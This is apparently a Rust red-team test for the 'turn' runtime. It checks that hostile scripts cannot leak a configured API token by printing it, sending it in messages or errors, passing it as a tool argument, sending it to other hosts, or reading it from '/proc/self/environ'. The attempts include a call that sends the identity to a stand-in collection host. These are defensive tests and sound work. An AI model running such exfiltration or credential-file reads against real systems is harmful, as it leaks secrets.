//! Red team: hostile programs try every way to get a configured secret out
//! (as a value, into output, memory, context, messages, errors, JSON, tool
//! arguments, files, the environment, other hosts). Each attempt must fail,
//! and the secret must appear in no output and no file of the store. The
//! one allowed use (a request to the granted host) is checked in net.rs.

mod common;

use std::process::Command;

const SECRET: &str = "rt-SECRET-5521-do-not-leak";

/// Each attempt is a function; the harness prints `refused` when it throws
/// and `LEAK` when it returns.
const ATTEMPTS: &[(&str, &str)] = &[
    ("str", "str(id)"),
    ("concat", "\"token=\" + id"),
    ("concat-right", "id + \"!\""),
    ("echo", "echo(id)"),
    ("print", "print(id)"),
    ("compare", "id == id"),
    ("json", "json.stringify({\"t\": id})"),
    ("json-list", "json.stringify([id])"),
    ("str-module", "strs.upper(id)"),
    ("remember", "remember(\"t\", id)"),
    ("context-append", "context.append(id)"),
    ("context-system", "context.system({\"t\": id})"),
    ("send-self", "send self, id"),
    ("send-map", "send self, {\"t\": id}"),
    ("throw", "throw id"),
    ("throw-map", "throw {\"t\": id}"),
    ("tool-arg", "call(\"record\", {\"t\": id})"),
    ("infer-prompt", "infer Str { \"say \" + id }"),
    (
        "net-other-host",
        "net.get(\"http://203.0.113.9/collect\", {\"identity\": id})",
    ),
    ("net-body", "net.post(\"http://127.0.0.1:9/\", {\"t\": id})"),
    ("env-token", "env.get(id, \"TURN_IDENTITY_API_TOKEN\")"),
    (
        "env-public",
        "env.get(grant identity::network(\"public\"), \"TURN_IDENTITY_API_TOKEN\")",
    ),
    ("fs-environ", "fs.read(id, \"/proc/self/environ\")"),
    ("grant-unlisted", "grant identity::env(\"all\")"),
    ("type-check", "turn(x: Str) { return x; }(id)"),
];

fn program() -> String {
    let mut p = String::from(
        "let json = use \"std/json\";\nlet strs = use \"std/str\";\nlet net = use \"std/net\";\n\
         let env = use \"std/env\";\nlet fs = use \"std/fs\";\n\
         let id = grant identity::network(\"api\");\nlet data = grant identity::filesystem(\"data\");\n",
    );
    for (name, expr) in ATTEMPTS {
        let expr = expr.replace("fs.read(id,", "fs.read(data,");
        p.push_str(&format!(
            "try {{ turn() {{ {expr}; return null; }}(); print(\"LEAK {name}\"); }} \
             catch (e) {{ print(\"refused {name}: \" + e.kind); }}\n"
        ));
    }
    p.push_str("return \"done\";\n");
    p
}

#[test]
fn no_attempt_gets_the_secret_out() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = tmp.path();
    std::fs::create_dir_all(dir.join("data")).expect("mkdir");
    std::fs::write(
        dir.join("turn.toml"),
        "[[grant]]\nkind = \"network\"\nname = \"api\"\nhosts = [\"127.0.0.1\"]\n\n\
         [[grant]]\nkind = \"filesystem\"\nname = \"data\"\nroot = \"./data\"\n\n\
         [tools.record]\ncommand = [\"sh\", \"-c\", \"cat >> tool-args.log\"]\n",
    )
    .expect("write");
    std::fs::write(dir.join("hostile.tn"), program()).expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_turn"))
        .args(["run", "hostile.tn", "--id", "hostile", "--trace"])
        .current_dir(dir)
        .env("TURN_IDENTITY_API_TOKEN", SECRET)
        .env_remove("TURN_STORE")
        .output()
        .expect("run turn");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    for (name, _) in ATTEMPTS {
        assert!(
            stdout.contains(&format!("refused {name}: ")),
            "attempt {name} was not refused:\n{stdout}"
        );
    }
    assert!(!stdout.contains("LEAK"), "{stdout}");
    assert!(!stdout.contains(SECRET) && !stderr.contains(SECRET));
    assert!(common::files_containing(dir, SECRET.as_bytes()).is_empty());
    let inspect = Command::new(env!("CARGO_BIN_EXE_turn"))
        .args(["inspect", "hostile", "--json"])
        .current_dir(dir)
        .output()
        .expect("inspect");
    assert!(!String::from_utf8_lossy(&inspect.stdout).contains(SECRET));
}
